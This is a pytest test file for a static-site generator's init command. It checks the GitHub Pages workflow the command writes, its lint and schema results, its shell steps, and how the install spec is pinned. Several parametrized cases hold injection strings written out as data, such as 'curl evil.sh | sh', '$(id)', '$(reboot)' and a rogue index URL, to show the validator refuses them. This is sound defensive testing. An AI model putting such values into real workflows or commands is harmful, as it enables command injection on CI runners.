"""sitegen init: the Pages workflow it writes (linted, schema-checked, its shell steps run), the pin."""
from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest
import yaml

from sitegen import __version__
from sitegen.init import Setup, gitignore_text
from sitegen.pins import DIST_NAME, SpecError, check_spec, pin_note, running_pin

ROOT = Path(__file__).resolve().parent.parent
COMMIT = "0123456789abcdef0123456789abcdef01234567"
GIT_SPEC = f"{DIST_NAME} @ git+https://github.com/acme/sitegen.git@{COMMIT}"


def _flow(folder: Path) -> dict[str, Any]:
    flow = yaml.safe_load((folder / ".github/workflows/pages.yml").read_text(encoding="utf-8"))
    assert isinstance(flow, dict)
    return flow


def _steps(flow: dict[str, Any], job: str = "build") -> dict[str, dict[str, Any]]:
    """The job's steps by name (else id, else the action they use)."""
    return {s.get("name") or s.get("id") or s["uses"].split("@")[0]: s for s in flow["jobs"][job]["steps"]}


def test_init_writes_a_pages_workflow(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path, "--output", "public", "--install", GIT_SPEC]).code == 0
    flow = _flow(tmp_path)
    on = flow.get("on", flow.get(True))  # YAML 1.1 reads the key `on` as true
    assert on == {"push": {"branches": ["main"]}, "pull_request": None, "workflow_dispatch": None}
    assert flow["permissions"] == {}  # each job says what it needs
    build, deploy = flow["jobs"]["build"], flow["jobs"]["deploy"]
    assert build["permissions"] == {"contents": "read", "pages": "read"}
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    steps = _steps(flow)
    checkout = next(s for s in steps.values() if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}  # no `lfs: true`
    assert steps["Install sitegen"]["run"] == f"pip install '{GIT_SPEC}'\n"
    assert "sitegen build --format github" in steps["Build the site"]["run"]
    assert steps["Build the site"]["env"] == {"BASE_URL": "${{ steps.pages.outputs.base_url }}"}
    # A pull request builds (annotations) and neither configures, uploads nor deploys.
    not_pr = "github.event_name != 'pull_request'"
    assert steps["pages"]["if"] == not_pr and steps["actions/upload-pages-artifact"]["if"] == not_pr
    assert steps["actions/upload-pages-artifact"]["with"]["path"] == "public"
    assert deploy["if"] == not_pr and deploy["needs"] == "build"
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    assert deploy["environment"] == {"name": "github-pages", "url": "${{ steps.deployment.outputs.page_url }}"}
    assert deploy["steps"] == [{"id": "deployment", "uses": "actions/deploy-pages@v4"}]


def test_init_writes_zizmor_and_gitignore_and_says_to_add_the_models(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    run = run_cli(["init", tmp_path, "--source", "repos", "--output", "out/site"])
    assert run.code == 0, run.err
    assert yaml.safe_load((tmp_path / "zizmor.yml").read_text(encoding="utf-8")) == {
        "rules": {"unpinned-uses": {"config": {"policies": {"actions/*": "ref-pin"}}}}}
    lines = (tmp_path / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert [line for line in lines if not line.startswith("#")] == ["/out/site/"]
    assert "git add sitegen.yaml .github/workflows/pages.yml zizmor.yml .gitignore repos/" in run.out
    assert "next one makes\nonly the models that changed" in run.out


def test_init_keeps_an_existing_gitignore_and_zizmor_config_even_with_force(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / ".gitignore").write_text("node_modules/\n", encoding="utf-8")
    (tmp_path / "zizmor.yml").write_text("rules: {}\n", encoding="utf-8")
    for extra in ([], ["--force"]):
        run = run_cli(["init", tmp_path, *extra])
        assert run.code == 0, run.err
        assert (tmp_path / ".gitignore").read_text(encoding="utf-8") == "node_modules/\n"
        assert (tmp_path / "zizmor.yml").read_text(encoding="utf-8") == "rules: {}\n"
        assert f"kept {tmp_path / '.gitignore'} as it is" in run.out and "  /_site/" in run.out
        assert f"wrote {tmp_path / '.gitignore'}" not in run.out


@pytest.mark.parametrize(("output", "line"), [("_site", "/_site/"), ("a*b[1]", "/a\\*b\\[1]/"),
                                              ("../elsewhere", None), ("/abs/out", None)])
def test_gitignore_names_the_output_literally_and_only_inside_the_repo(output: str, line: str | None) -> None:
    rules = [r for r in gitignore_text(Setup(output=output)).splitlines() if not r.startswith("#")]
    assert rules == ([line] if line else [])


# The tools GitHub users lint workflows with: both install from PyPI and run offline.

def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.skip(f"{name} is not installed (pip install '.[test]')")
    return path


def _zizmor(flow: Path, *config: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([_tool("zizmor"), "--offline", "--no-progress", "--persona", "pedantic", *config, str(flow)],
                          capture_output=True, text=True, timeout=120, cwd=flow.parent)


def _schema(flow: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(flow)],
                          capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("install", [None, GIT_SPEC, "https://example.com/modelcard_sitegen-0.1.0-py3-none-any.whl"])
def test_the_generated_workflow_passes_zizmor_and_githubs_schema(tmp_path: Path, run_cli, install: str | None) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path, *(["--install", install] if install else [])]).code == 0
    flow = tmp_path / ".github/workflows/pages.yml"
    lint = _zizmor(flow, "--config", str(tmp_path / "zizmor.yml"))
    assert lint.returncode == 0 and "No findings" in lint.stdout, lint.stdout + lint.stderr
    # The config's one allowance is what it says: without it, the tag pins are findings.
    bare = _zizmor(flow, "--no-config")
    assert bare.returncode != 0 and "unpinned-uses" in bare.stdout
    check = _schema(flow)
    assert check.returncode == 0, check.stdout + check.stderr


def test_the_schema_check_catches_a_broken_workflow(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path]).code == 0
    flow = tmp_path / ".github/workflows/pages.yml"
    flow.write_text(flow.read_text(encoding="utf-8").replace("runs-on:", "run-on:"), encoding="utf-8")
    assert _schema(flow).returncode != 0


def test_this_projects_release_workflow_passes_zizmor_and_githubs_schema() -> None:
    flow = ROOT / ".github/workflows/release.yml"
    lint = _zizmor(flow, "--config", str(ROOT / "zizmor.yml"))
    assert lint.returncode == 0 and "No findings" in lint.stdout, lint.stdout + lint.stderr
    check = _schema(flow)
    assert check.returncode == 0, check.stdout + check.stderr


def test_the_release_workflow_builds_checks_and_publishes_by_trusted_publishing() -> None:
    flow = yaml.safe_load((ROOT / ".github/workflows/release.yml").read_text(encoding="utf-8"))
    assert flow.get("on", flow.get(True)) == {"push": {"tags": ["v*"]}}
    assert flow["permissions"] == {}
    build, publish = flow["jobs"]["build"], flow["jobs"]["publish"]
    assert build["permissions"] == {"contents": "read"}
    script = "\n".join(s.get("run", "") for s in build["steps"])
    assert "python -m build" in script and "twine check" in script
    assert publish["permissions"] == {"id-token": "write"} and publish["environment"]["name"] == "pypi"
    assert publish["steps"][-1]["uses"].startswith("pypa/gh-action-pypi-publish@")
    assert DIST_NAME in publish["environment"]["url"]


# The pin: the workflow installs the sitegen that ran init.

def _dist_info(tmp_path: Path, direct_url: dict[str, Any] | None, version: str = __version__) -> Path:
    """A fake installed distribution of sitegen in tmp_path, as pip leaves one."""
    info = tmp_path / f"{DIST_NAME.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {DIST_NAME}\nVersion: {version}\n",
                                   encoding="utf-8")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url), encoding="utf-8")
    return info


def _git(url: str, commit: str = COMMIT) -> dict[str, Any]:
    return {"url": url, "vcs_info": {"vcs": "git", "commit_id": commit, "requested_revision": "main"}}


def test_a_git_install_is_pinned_to_its_url_and_commit(tmp_path: Path) -> None:
    pin = running_pin(metadata.Distribution.at(_dist_info(tmp_path, _git("https://github.com/acme/sitegen.git"))))
    assert pin.spec == GIT_SPEC and not pin.from_pypi
    assert pin_note(pin) is None


@pytest.mark.parametrize(("direct_url", "why"), [
    (None, ""),  # installed from PyPI: pip writes no direct_url.json
    ({"url": "file:///home/me/sitegen", "dir_info": {"editable": True}}, ""),  # pip install -e .
    (_git("file:///home/me/sitegen"), "which a GitHub runner cannot fetch"),
    (_git("https://me:token@github.com/acme/sitegen.git"), "which a GitHub runner cannot fetch"),
    (_git("https://github.com/acme/sitegen.git", commit="main"), "which a GitHub runner cannot fetch"),
    (_git("https://github.com/acme/$(reboot)'.git"), "cannot go into the workflow"),
])
def test_anything_else_is_pinned_to_the_release_with_a_note(tmp_path: Path, direct_url: dict[str, Any] | None,
                                                           why: str) -> None:
    pin = running_pin(metadata.Distribution.at(_dist_info(tmp_path, direct_url)))
    assert pin.spec == f"{DIST_NAME}=={__version__}" and pin.from_pypi
    note = pin_note(pin)
    assert note is not None and "must be published on PyPI" in note and "--install SPEC" in note
    assert why in note


def test_a_record_of_another_version_is_not_this_sitegens(tmp_path: Path) -> None:
    dist = metadata.Distribution.at(_dist_info(tmp_path, _git("https://github.com/acme/sitegen.git"), "9.9.9"))
    assert running_pin(dist).spec == f"{DIST_NAME}=={__version__}"


def test_init_reads_the_installed_record(tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    _dist_info(tmp_path / "site-packages", _git("https://github.com/acme/sitegen.git"))
    monkeypatch.syspath_prepend(str(tmp_path / "site-packages"))  # found before any real install
    run = run_cli(["init", tmp_path / "repo"])
    assert run.code == 0, run.err
    assert _steps(_flow(tmp_path / "repo"))["Install sitegen"]["run"] == f"pip install '{GIT_SPEC}'\n"
    assert "must be published" not in run.out


def test_init_without_a_git_record_says_the_release_must_exist(tmp_path: Path, run_cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    _dist_info(tmp_path / "site-packages", None)
    monkeypatch.syspath_prepend(str(tmp_path / "site-packages"))
    run = run_cli(["init", tmp_path / "repo"])
    assert run.code == 0, run.err
    spec = f"{DIST_NAME}=={__version__}"
    assert _steps(_flow(tmp_path / "repo"))["Install sitegen"]["run"] == f"pip install '{spec}'\n"
    assert f"the workflow installs {spec}: that release must be published on PyPI" in run.out
    assert "--install SPEC" in run.out


@pytest.mark.parametrize(("spec", "expected"), [
    ("x\nrun: curl evil.sh | sh", "expected one line"),
    ("x\r", "expected one line"),
    ("x ${{ github.token }}", "cannot carry"),
    ("x'; curl evil.sh | sh; '", "cannot carry '"),
    ('x"', "cannot carry \""),
    ("x $(id)", "cannot carry $"),
    ("x `id`", "cannot carry `"),
    ("x\\", "cannot carry \\"),
    ("--index-url=https://evil.example/simple x", "starting with a letter or digit"),
    ("x\u202e", "printable ASCII"),
    ("x\x1b[2J", "printable ASCII"),
    ("  ", "expected a pip requirement, got nothing"),
])
def test_a_hostile_install_spec_is_refused(tmp_path: Path, run_cli, spec: str, expected: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(SpecError) as err:
        check_spec(spec)
    assert expected in str(err.value)
    run = run_cli(["init", tmp_path, "--install", spec])
    assert run.code == 2
    assert "argument --install:" in run.err and expected in run.err.replace("\\\\", "\\")
    assert "Traceback" not in run.err and not (tmp_path / ".github").exists()


@pytest.mark.parametrize("spec", [GIT_SPEC, "https://example.com/w/modelcard_sitegen-0.1.0-py3-none-any.whl",
                                  "modelcard-sitegen[extra]>=0.1,<0.2",
                                  "modelcard-sitegen #: not a comment"])
def test_an_install_spec_reaches_pip_as_one_word(tmp_path: Path, run_cli, spec: str) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path, "--install", spec]).code == 0
    script = _steps(_flow(tmp_path))["Install sitegen"]["run"]
    args = _run_step(tmp_path, script, {})
    assert args == [["pip", "install", spec]]


# The shell steps, run by bash with stand-ins for pip, sitegen and git that record their arguments.

def _run_step(folder: Path, script: str, env: dict[str, str], lfs_files: str = "") -> list[list[str]]:
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    bin_ = folder / "fake-bin"
    bin_.mkdir(exist_ok=True)
    log = folder / "calls.jsonl"
    log.write_text("", encoding="utf-8")
    for name in ("pip", "git", "sitegen"):
        fake = bin_ / name
        fake.write_text(f"#!{shutil.which('python3') or 'python3'}\nimport json, os, sys\n"
                        f"if sys.argv[1:] == ['lfs-files']: print({lfs_files!r})\n"
                        f"else:\n  with open({str(log)!r}, 'a') as fh: fh.write(json.dumps([{name!r}, *sys.argv[1:]]) + '\\n')\n",
                        encoding="utf-8")
        fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    environ = {"PATH": f"{bin_}{os.pathsep}{os.environ['PATH']}", **env}
    done = subprocess.run([bash, "-e", "-c", script], cwd=folder, env=environ, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]


def test_the_lfs_step_fetches_exactly_the_listed_files_and_nothing_when_none(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path]).code == 0
    step = next(s for s in _flow(tmp_path)["jobs"]["build"]["steps"] if "sitegen lfs-files" in s.get("run", ""))
    assert step["env"] == {"TOKEN": "${{ github.token }}"}
    assert _run_step(tmp_path, step["run"], {"TOKEN": "t0ken"}, lfs_files="") == []  # `--include=""` would fetch all
    files = "models/a/cat.png,models/b b/x y.wav"
    assert _run_step(tmp_path, step["run"], {"TOKEN": "t0ken"}, lfs_files=files) == [
        ["git", "lfs", "pull", f"--include={files}"]]


def test_the_build_step_passes_the_pages_address_only_when_there_is_one(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path]).code == 0
    script = _steps(_flow(tmp_path))["Build the site"]["run"]
    assert _run_step(tmp_path, script, {"BASE_URL": "https://acme.github.io/models"}) == [
        ["sitegen", "build", "--format", "github", "--base-url", "https://acme.github.io/models/"]]
    assert _run_step(tmp_path, script, {"BASE_URL": ""}) == [["sitegen", "build", "--format", "github"]]


def _cache_steps(folder: Path) -> tuple[list[str], dict[str, Any], dict[str, Any]]:
    """The build job's step names in order, and its cache restore and save steps."""
    steps = _steps(_flow(folder))
    return list(steps), steps["Restore the last deploy's build"], steps["Keep this build for the next deploy"]


def test_deploys_carry_the_build_state_and_the_site_to_the_next_deploy(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli(["init", tmp_path, "--output", "public", "--install", GIT_SPEC]).code == 0
    names, restore, save = _cache_steps(tmp_path)
    assert restore["uses"] == "actions/cache/restore@v4" and save["uses"] == "actions/cache/save@v4"
    # restored before the build, saved after the site is uploaded
    assert names.index(restore["name"]) < names.index("Build the site") < names.index(save["name"])
    assert names.index("actions/upload-pages-artifact") < names.index(save["name"])
    # The state folder (JSON) and the site; never ~/.cache/sitegen itself, which holds compiled templates (code).
    assert restore["with"]["path"] == save["with"]["path"] == "~/.cache/sitegen/builds\npublic\n"
    # A pull request neither reads nor writes it; only main's deploys write it.
    assert restore["if"] == "github.event_name != 'pull_request'"
    assert save["if"] == "github.event_name != 'pull_request' && github.ref == 'refs/heads/main'"
    # Each save is a new entry (an entry cannot be replaced); a restore takes main's newest of
    # this sitegen and these settings.
    prefix = restore["with"]["restore-keys"].strip()
    assert restore["with"]["key"] == save["with"]["key"] == prefix + "${{ github.run_id }}-${{ github.run_attempt }}"
    assert prefix.startswith("sitegen-") and prefix.endswith("-${{ hashFiles('sitegen.yaml') }}-")


def test_the_cache_key_names_the_sitegen_installed(tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    keys = []
    for n, spec in enumerate([GIT_SPEC, GIT_SPEC.replace("0123", "4567"), f"{DIST_NAME}==0.1.0"]):
        assert run_cli(["init", tmp_path / str(n), "--install", spec]).code == 0
        keys.append(_cache_steps(tmp_path / str(n))[1]["with"]["restore-keys"])
    assert len(set(keys)) == 3


@pytest.mark.parametrize("output", ["a\tb", " lead", "!negated", "#x"])
def test_an_output_the_cache_step_cannot_carry_is_refused(tmp_path: Path, run_cli, output: str) -> None:  # type: ignore[no-untyped-def]
    run = run_cli(["init", tmp_path, "--output", output])
    assert run.code != 0 and "the cache step can carry" in run.err
    assert not (tmp_path / ".github").exists()
